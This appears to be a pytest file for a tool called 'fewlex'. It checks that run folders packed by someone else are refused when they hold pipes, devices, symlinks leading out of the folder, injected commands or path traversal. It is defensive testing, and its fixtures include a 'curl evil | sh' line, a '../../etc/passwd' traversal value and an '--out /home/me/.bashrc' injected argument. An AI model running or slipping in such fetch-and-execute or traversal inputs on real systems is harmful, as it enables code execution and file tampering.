"""A run folder that somebody else has packed: it is refused by name, and no file outside it is changed."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
from collections.abc import Callable, Iterator
from pathlib import Path
from types import FrameType

import pytest
from typer.testing import CliRunner

import fewlex
from fewlex.cli import app
from fewlex.data.corpus import Corpus
from fewlex.doctor import examine
from fewlex.errors import RunError
from fewlex.run import Run
from fewlex.studio.jobs import ORDER, Order, Trainings
from fewlex.studio.library import Library
from fewlex.training import train
from fewlex.translator import Translator
from torture.mutation import unsealed

RUNNER = CliRunner()
FOREIGN = "precious\n"
FILES = ("config.toml", "knowledge.json", "lexicon.json", "rules.json", "edits.jsonl", "model.safetensors")


@pytest.fixture(scope="module")
def corpus() -> Corpus:
    return fewlex.load("colors")


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, corpus: Corpus) -> Path:
    small = [
        "model.hidden=8",
        "model.embedding=8",
        "training.epochs=2",
        "training.updates=0",
        "rules.learn=true",
    ]
    run = train(
        corpus, fewlex.build_config("fast", settings=small), tmp_path_factory.mktemp("packed") / "run"
    )
    run.teach([run.read_knowledge().lesson("blork", "BLACK")])
    return run.path


@pytest.fixture
def run(made: Path, tmp_path: Path) -> Run:
    return Run(Path(shutil.copytree(made, tmp_path / "run")))


@pytest.fixture
def foreign(tmp_path: Path) -> Path:
    """A file that is none of the run's."""
    path = tmp_path / "foreign"
    path.write_text(FOREIGN)
    return path


@pytest.fixture
def impatient() -> Iterator[None]:
    """Whoever waits for a pipe is woken up."""

    def wake(number: int, frame: FrameType | None) -> None:
        raise TimeoutError("it waits for ever")

    before = signal.signal(signal.SIGALRM, wake)
    signal.alarm(20)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


USES: dict[str, Callable[[Path], object]] = {
    "doctor": examine,
    "translate": Translator.load,
    "teach": lambda path: RUNNER.invoke(app, ["teach", str(path), "a", "B"], catch_exceptions=False),
}


@pytest.mark.usefixtures("impatient")
@pytest.mark.parametrize("use", USES)
@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("kind", ["pipe", "device", "link to nowhere"])
def test_what_is_no_file_is_named_and_not_read(run: Run, name: str, use: str, kind: str) -> None:
    (run.path / name).unlink()
    if kind == "pipe":
        os.mkfifo(run.path / name)
    else:
        (run.path / name).symlink_to("/dev/zero" if kind == "device" else run.path / "nothing")
    told = re.escape(str(run.path / name)) + " is a pipe, a device"
    with pytest.raises(RunError, match=told):
        USES[use](run.path)


def test_the_doctor_sets_nothing_aside_through_a_link(run: Run, foreign: Path) -> None:
    """Otherwise a stranger's log would replace any file of whoever mends the run."""
    (run.path / "edits.jsonl").write_text("curl evil | sh\n")
    (run.path / "edits.jsonl.damaged").symlink_to(foreign)
    with pytest.raises(RunError, match=r"edits\.jsonl\.damaged is a link out of the run folder"):
        examine(run.path, mend=True)
    assert foreign.read_text() == FOREIGN


@pytest.mark.parametrize("name", ["metrics.jsonl", "checkpoint.safetensors", "result.json"])
def test_a_training_writes_nothing_through_a_link(run: Run, corpus: Corpus, foreign: Path, name: str) -> None:
    (run.path / "result.json").unlink()
    (run.path / name).unlink(missing_ok=True)
    (run.path / name).symlink_to(foreign)
    with pytest.raises(RunError, match="is a link out of the run folder"):
        train(corpus, run.read_config(), run.path)
    assert foreign.read_text() == FOREIGN


@pytest.mark.parametrize("name", ["lexicon.json", "edits.jsonl"])
def test_an_edit_writes_nothing_through_a_link(run: Run, tmp_path: Path, name: str) -> None:
    """The lexicon and the log could be read there, so only the link tells that they are not the run's."""
    moved = tmp_path / name
    shutil.move(run.path / name, moved)
    (run.path / name).symlink_to(moved)
    content = moved.read_bytes()
    with pytest.raises(RunError, match="is a link out of the run folder"):
        run.teach([run.read_knowledge().lesson("zork", "WHITE")])
    with pytest.raises(RunError, match="is a link out of the run folder"):
        run.undo()
    assert moved.read_bytes() == content


def test_links_are_read_and_those_within_the_folder_are_written(run: Run, tmp_path: Path) -> None:
    shutil.move(run.weights, tmp_path / "weights")
    run.weights.symlink_to(tmp_path / "weights")
    assert Translator.load(run.path).translate("dax")
    run.weights.unlink()
    shutil.move(run.path / "lexicon.json", run.path / "words.json")
    (run.path / "lexicon.json").symlink_to("words.json")
    run.teach([run.read_knowledge().lesson("zork", "WHITE")])
    assert "zork" in run.read_knowledge().lexicon


def test_a_config_of_a_giant_network_takes_no_memory(run: Run) -> None:
    for name in ("config.toml", "knowledge.json"):
        (run.path / name).write_bytes(unsealed((run.path / name).read_bytes()))
    text = (run.path / "config.toml").read_text()
    (run.path / "config.toml").write_text(re.sub(r"(?m)^hidden = 8$", "hidden = 3000", text))
    with pytest.raises(
        RunError, match=r"model\.safetensors: too small for the network .*model\.hidden = 3000"
    ):
        Translator.load(run.path)


@pytest.mark.parametrize(
    "content",
    [
        {"command": ["report", "--out", "/home/me/.bashrc"]},
        {"order": {"name": "run", "data": "colors", "preset": "fast", "command": []}},
        {"order": {"name": "run", "data": "colors"}, "examples": "--out"},
    ],
)
def test_the_studio_takes_no_command_from_a_folder(tmp_path: Path, content: object) -> None:
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / ORDER).write_text(json.dumps(content))
    with pytest.raises(RunError, match="this is not an order of this studio"):
        Trainings(Library(tmp_path)).resume("run")


def test_the_studio_goes_on_with_data_of_its_own_folder_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    launched: list[list[str]] = []
    monkeypatch.setattr(Trainings, "_launch", lambda self, name, command: launched.append([name, *command]))
    trainings, order = Trainings(Library(tmp_path)), Order("other", "data/abc", epochs=3)
    trainings.start(order, 50)
    trainings.resume("other")
    assert launched[0] == launched[1]
    shutil.move(tmp_path / "other", tmp_path / "run")
    trainings.resume("run")
    assert launched[2][4] == str(tmp_path / "run"), "it goes on where the folder is now"
    text = (tmp_path / "run" / ORDER).read_text().replace("data/abc", "../../etc/passwd")
    (tmp_path / "run" / ORDER).write_text(text)
    with pytest.raises(RunError, match="not below the folder"):
        trainings.resume("run")


def test_the_studio_lists_what_it_cannot_read(run: Run) -> None:
    (run.path / "config.toml").unlink()
    (run.path / "config.toml").symlink_to("nowhere")
    (card,) = Library(run.path.parent).cards()
    assert "is a pipe, a device or a link that leads nowhere" in card.problem


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("lexicon learn", "pairs.tsv"),
        ("rules learn", "pairs.txt"),
        ("augment", "pairs.tsv"),
        ("lexicon learn", "data/train.tsv"),
    ],
)
def test_the_data_is_not_overwritten_by_what_is_made_of_it(tmp_path: Path, command: str, name: str) -> None:
    data, out = tmp_path / name.partition("/")[0], tmp_path / name
    out.parent.mkdir(exist_ok=True)
    out.write_text("dax fep\tRED RED RED\nlug\tBLUE\ndax\tRED\nlug fep\tBLUE BLUE BLUE\nzup\tYELLOW\n")
    before = out.read_text()
    done = RUNNER.invoke(app, [*command.split(), str(data), "--out", str(out)])
    assert done.exit_code == 1
    assert "is the data itself" in str(done.exception) + done.output
    assert out.read_text() == before
